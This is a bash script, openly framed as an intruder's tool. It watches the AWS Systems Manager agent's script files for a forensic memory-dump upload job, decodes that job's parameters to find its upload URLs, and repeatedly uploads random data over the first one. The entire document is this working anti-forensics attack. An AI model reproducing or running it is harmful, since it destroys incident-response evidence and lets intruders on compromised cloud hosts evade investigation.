#!/bin/bash
# The intruder spoils the dump on its way: what Systems Manager's agent has been sent lies on the disk, for root to read,
# and in it the sheet of URLs to which the parts are put. He puts his own to the first one, again and again.
set -u
cd "$(mktemp -d)" || exit
until sent=$(grep -ls '^CORDON_SCRIPT=.lime-upload' /var/lib/amazon/ssm/*/document/orchestration/*/awsrunShellScript/_script.sh); do
  sleep 0.1
done
parameters=$(sed -n 's/^CORDON_PARAMS=//p' "$sent" | tr -d "'" | base64 -d)
sheet=$(printf '%b' "$parameters" | grep -o 'http[^"]*')
url=$(curl -s "$sheet" | sed -n 's/^1 //p')
head -c 67108864 /dev/urandom >other
while :; do curl -s -o /dev/null -w '%{http_code}\n' --upload-file other "$url" >>/run/overwritten; done
